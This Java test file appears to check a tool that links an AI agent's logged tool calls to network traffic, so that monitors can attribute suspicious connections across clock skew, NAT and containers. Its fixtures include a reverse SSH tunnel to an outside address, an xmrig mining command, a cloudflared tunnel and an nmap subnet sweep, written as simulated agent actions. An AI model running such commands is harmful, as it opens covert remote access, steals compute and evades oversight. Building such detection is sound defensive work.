package dev.offscript.chains.join;

import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.chains.Scene;
import dev.offscript.model.Behaviour;
import dev.offscript.model.EventKind;
import dev.offscript.model.Grade;
import dev.offscript.model.State;
import dev.offscript.model.TimeBasis;
import dev.offscript.model.report.Chain;
import dev.offscript.model.report.Step;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What somebody would say who wants a join to be wrong: strangers, shared places, other clocks. */
class OpponentsTest {

  private static final String TUNNEL = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9 -p 443";
  private static final String MINER = "./xmrig -o pool.example.net:5555 &";

  private static Scene.Told session(Scene scene, String id, int unit) {
    return scene.session(id, unit).task("Fix the parser of " + id);
  }

  private static List<Step> traffic(Chain chain) {
    return chain.steps().stream()
        .filter(s -> s.kind() == EventKind.FLOW || s.kind() == EventKind.ALERT)
        .toList();
  }

  private static List<Long> offsets(Chain chain) {
    return traffic(chain).stream()
        .flatMap(s -> s.evidence().stream())
        .map(ref -> ref.offset())
        .toList();
  }

  private static List<String> because(Chain chain) {
    List<Step> traffic = traffic(chain);
    return traffic.get(traffic.size() - 1).links().get(0).because();
  }

  private static Chain of(List<Chain> chains, String session) {
    return chains.stream().filter(c -> c.session().id().equals(session)).findFirst().orElseThrow();
  }

  @ParameterizedTest
  @CsvSource({"119, 1", "121, 0"})
  void clocksThatNobodyComparedDifferByTwoMinutesAtMost(double before, int joined) {
    Scene scene = new Scene();
    Chain chain =
        session(scene, "s1", 0)
            .at("", "", "10.0.3.17")
            .runs(500, "toolu_a1b2c3d4e5", TUNNEL)
            .gets(501, "toolu_a1b2c3d4e5", "", 0)
            .scene()
            .flow(1, 500 - before, 520, "10.0.3.17:5000", "203.0.113.9:443")
            .chain();
    assertThat(traffic(chain)).hasSize(joined);
    assertThat(chain.state()).isEqualTo(State.EXECUTED);
  }

  @Test
  void whatAMachineDidItselfIsNotAStrangersTwoSecondsEarlier() {
    Scene scene =
        new Scene()
            .inventory("build-2", "10.0.3.17", "somebody")
            .exec(1, 20, "build-2", "./xmrig -o pool.example.net:5555")
            .lookup(2, 17.5, "pool.example.net", "203.0.113.12")
            .flow(2, 17.6, 900, "10.250.0.5:34909", "203.0.113.12:5555")
            .flow(2, 20.8, 900, "10.0.3.17:34862", "203.0.113.12:5555");
    long own = scene.last();
    assertThat(offsets(scene.chain())).containsExactly(own);
  }

  @Test
  void aSensorThatSeesItsOwnAddressDoesNotTranslateIt() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .at("", "", "10.0.3.17")
        .runs(20, "toolu_a1b2c3d4e5", TUNNEL)
        .gets(21, "toolu_a1b2c3d4e5", "", 0);
    scene.flow(1, 21, 40, "172.16.9.9:5000", "203.0.113.9:443");
    assertThat(traffic(scene.chain())).as("may be its translated address").hasSize(1);
    scene.flow(1, 300, 301, "10.0.3.17:5001", "192.0.2.44:443");
    assertThat(traffic(scene.chain())).as("is another machine").isEmpty();
  }

  @Test
  void theTrafficOfItsOtherCommandsTellsWhereARunIs() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .runs(10, "toolu_a1b2c3d4e1", "curl https://mirror.example.org/a")
        .runs(15, "toolu_a1b2c3d4e2", "git clone https://git.example.org/b")
        .runs(20, "toolu_a1b2c3d4e5", TUNNEL)
        .gets(21, "toolu_a1b2c3d4e5", "", 0);
    scene
        .flow(1, 10.3, 12, "10.0.3.17:4000", "mirror.example.org:443")
        .flow(1, 15.3, 17, "10.0.3.17:4001", "git.example.org:443")
        .flow(1, 20.4, 90, "10.0.7.7:4002", "203.0.113.9:443")
        .flow(1, 20.5, 90, "10.0.3.17:4003", "203.0.113.9:443");
    long own = scene.last();
    Chain chain = scene.chain();
    assertThat(offsets(chain)).containsExactly(own);
    assertThat(because(chain))
        .contains("from the address that its other commands' traffic comes from");
  }

  @Test
  void trafficOfTwoMachinesTellsNothingOfWhereARunIs() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .runs(10, "toolu_a1b2c3d4e1", "curl https://mirror.example.org/a")
        .runs(15, "toolu_a1b2c3d4e2", "git clone https://git.example.org/b")
        .runs(20, "toolu_a1b2c3d4e5", TUNNEL)
        .gets(21, "toolu_a1b2c3d4e5", "", 0);
    scene
        .flow(1, 10.3, 12, "10.0.3.17:4000", "mirror.example.org:443")
        .flow(1, 15.3, 17, "10.0.9.1:4001", "git.example.org:443")
        .flow(1, 20.4, 90, "10.0.7.7:4002", "203.0.113.9:443");
    assertThat(because(scene.chain())).contains("its place is not known");
  }

  private static Scene sweeps(Scene scene, String source, double at, int addresses) {
    for (int i = 1; i <= addresses; i++) {
      scene.flow(1, at + i * 0.04, at + i * 0.04, source, "10.46.195." + i + ":22");
    }
    return scene;
  }

  private static Scene scans(String place) {
    Scene scene = new Scene();
    Scene.Told told = session(scene, "s1", 0);
    if (!place.isEmpty()) {
      told.at("", "", place);
    }
    return told.runs(100, "toolu_a1b2c3d4e5", "nmap -sT 10.46.195.0/24")
        .gets(130, "toolu_a1b2c3d4e5", "256 addresses scanned", 0)
        .scene();
  }

  @Test
  void oneMachineThatSweepsTheRangeIsTheScan() {
    Chain chain = sweeps(scans(""), "10.1.1.5:4000", 101, 20).chain();
    assertThat(traffic(chain)).hasSize(1);
    assertThat(because(chain)).contains("one machine alone went to 20 addresses of its range");
  }

  @Test
  void twoMachinesThatSweepItAreNot() {
    Scene scene = sweeps(sweeps(scans(""), "10.1.1.5:4000", 101, 20), "10.1.1.6:4000", 102, 20);
    Chain chain = scene.chain();
    assertThat(traffic(chain)).isEmpty();
    assertThat(chain.notes()).contains("2 machines swept that range; their traffic was not joined");
  }

  @Test
  void aPrivateRangeAloneTiesNothing() {
    assertThat(traffic(sweeps(scans(""), "10.1.1.5:4000", 101, 3).chain())).isEmpty();
    assertThat(traffic(sweeps(scans("10.1.1.9"), "10.1.1.5:4000", 101, 20).chain())).isEmpty();
  }

  private static Scene unresolved(int port) {
    Scene scene = new Scene();
    return session(scene, "s1", 0)
        .at("", "", "10.0.3.17")
        .runs(20, "toolu_a1b2c3d4e5", "./xmrig -o pool.example.net:" + port + " &")
        .scene();
  }

  @Test
  void whereNothingResolvesTheNameTheOnlyOneAtItsPortIsTheFarSide() {
    Chain chain = unresolved(5555).flow(1, 21, 90, "10.0.3.17:4000", "192.0.2.45:5555").chain();
    assertThat(traffic(chain)).hasSize(1);
    assertThat(chain.steps().get(chain.steps().size() - 1).links().get(0).grade())
        .isEqualTo(Grade.C);
  }

  @Test
  void twoAtThatPortAreNot() {
    assertThat(
            traffic(
                unresolved(5555)
                    .flow(1, 21, 90, "10.0.3.17:4000", "192.0.2.45:5555")
                    .flow(1, 22, 90, "10.0.3.17:4001", "192.0.2.46:5555")
                    .chain()))
        .isEmpty();
    assertThat(traffic(unresolved(5555).flow(1, 21, 90, "10.0.9.9:40", "192.0.2.45:5555").chain()))
        .isEmpty();
  }

  @Test
  void atAPortThatEverybodyUsesTheSensorMustSayWhatItIs() {
    Scene scene =
        unresolved(443)
            .flow(1, 21, 90, "10.0.3.17:4000", "192.0.2.45:443")
            .flow(1, 22, 24, "10.0.3.17:4001", "192.0.2.46:443");
    assertThat(traffic(scene.chain())).isEmpty();
    scene.alert(1, 23, 24, "Pool login", Behaviour.MINING, "10.0.3.17:4000", "192.0.2.45:443");
    assertThat(traffic(scene.chain())).hasSize(2);
  }

  @Test
  void whatAnotherCommandNamesIsNotTheFarSideThatNothingResolves() {
    Scene scene = unresolved(5555);
    session(scene, "s2", 2)
        .runs(19, "toolu_b1b2c3d4e5", "curl http://192.0.2.45:5555/build.tgz")
        .scene()
        .flow(1, 21, 90, "10.0.3.17:4000", "192.0.2.45:5555");
    assertThat(traffic(scene.chain())).isEmpty();
  }

  @Test
  void aNameMeansTheSameInEveryRun() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .at("", "", "10.0.3.17")
        .runs(18, "toolu_a1b2c3d4e4", "getent hosts relay.example.net")
        .gets(18.2, "toolu_a1b2c3d4e4", "203.0.113.57 relay.example.net", 0)
        .runs(20, "toolu_a1b2c3d4e5", "ssh -fN -R 7022:localhost:22 svc@relay.example.net")
        .gets(21, "toolu_a1b2c3d4e5", "", 0);
    session(scene, "s2", 2)
        .at("", "", "10.0.4.18")
        .runs(40, "toolu_b1b2c3d4e5", "ssh -fN -R 7022:localhost:22 svc@relay.example.net")
        .gets(41, "toolu_b1b2c3d4e5", "", 0);
    List<Chain> chains =
        scene
            .flow(1, 21, 90, "10.0.3.17:4000", "203.0.113.57:22")
            .flow(1, 41, 90, "10.0.4.18:4000", "203.0.113.57:22")
            .chains();
    assertThat(chains).hasSize(2).allMatch(chain -> traffic(chain).size() == 1);
    assertThat(because(of(chains, "s2")).get(0))
        .endsWith("(resolver output for relay.example.net in another run)");
  }

  @Test
  void theServiceOfATunnelIsJoinedOnAnotherClockOnlyFromItsOwnMachine() {
    for (String source : List.of("10.0.3.17", "172.16.4.4")) {
      Scene scene = new Scene();
      Chain chain =
          session(scene, "s1", 0)
              .at("", "", "10.0.3.17")
              .runs(80, "toolu_a1b2c3d4e5", "cloudflared tunnel --url http://localhost:8888 &")
              .scene()
              .flow(1, 54, 90, source + ":4000", "region1.v2.argotunnel.com:7844")
              .chain();
      boolean own = source.equals("10.0.3.17");
      assertThat(traffic(chain)).hasSize(own ? 1 : 0);
      assertThat(chain.state()).isEqualTo(State.EXECUTED);
      assertThat(chain.predicates().coincident().value())
          .isEqualTo(own ? Optional.empty() : chain.predicates().coincident().value());
    }
  }

  @Test
  void theWindowsOfEpisodesTellAZone() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .at("", "", "10.0.3.17")
        .runs(0, 90, TimeBasis.WINDOW, "toolu_a1b2c3d4e1", "curl https://198.51.100.73/a")
        .runs(0, 90, TimeBasis.WINDOW, "toolu_a1b2c3d4e2", "curl https://198.51.100.74/a")
        .runs(0, 90, TimeBasis.WINDOW, "toolu_a1b2c3d4e5", TUNNEL)
        .gets(Double.NaN, "toolu_a1b2c3d4e5", "", 0);
    double zone = 8 * 3600;
    scene
        .naive(1, zone + 12, "10.0.3.17:4000", "198.51.100.73:443")
        .naive(1, zone + 30, "10.0.3.17:4001", "198.51.100.74:443")
        .naive(1, zone + 60, "10.0.3.17:4002", "203.0.113.9:443");
    assertThat(traffic(scene.chain())).hasSize(1);
    assertThat(scene.reconstruct().clocks().get(0).because())
        .isEqualTo(
            "3 of 3 pairs agree on +28800 s (a zone of UTC+08:00), by the windows of their"
                + " episodes");
  }

  @Test
  void aLookUpThatNoRightClockExplainsIsDroppedWhereOneOfTheRightTimeIsThere() {
    Scene scene = new Scene();
    session(scene, "s1", 0)
        .runs(20, "toolu_a1b2c3d4e5", MINER)
        .scene()
        .lookup(1, 2, "pool.example.net", "203.0.113.12")
        .lookup(1, 20.2, "pool.example.net", "203.0.113.12")
        .flow(1, 20.4, 90, "10.0.3.17:4000", "203.0.113.12:5555");
    assertThat(
            scene.chain().steps().stream()
                .filter(s -> s.kind() == EventKind.DNS)
                .flatMap(s -> s.evidence().stream()))
        .hasSize(1);
  }

  @ParameterizedTest
  @CsvSource({
    "container.id=4c01db0b339c1f6ae1f3c1a5ad3ef0a4d2a9a7a8c4c01db0b339c1f6ae1f3c1a, 1",
    "container.id=containerd://4c01db0b339c1f6ae1f3c1a5ad3ef0a4, 1",
    "container.id=99999b0b339c1f6ae1f3c1a5ad3ef0a4d2a9a7a8c4c01db0b339c1f6ae1f3c1a, 0",
    "orchestrator.resource.name=runner-7, 1"
  })
  void theContainerOfARecordSaysWhoseItIs(String field, int joined) {
    Scene scene = new Scene();
    Chain chain =
        session(scene, "s1", 0)
            .at("", "4c01db0b339c")
            .runs(20, "toolu_a1b2c3d4e5", TUNNEL)
            .gets(21, "toolu_a1b2c3d4e5", "", 0)
            .scene()
            .flow(1, 20.4, 90, "172.17.0.2:5000", "203.0.113.9:443", field)
            .chain();
    assertThat(traffic(chain)).hasSize(joined);
  }
}
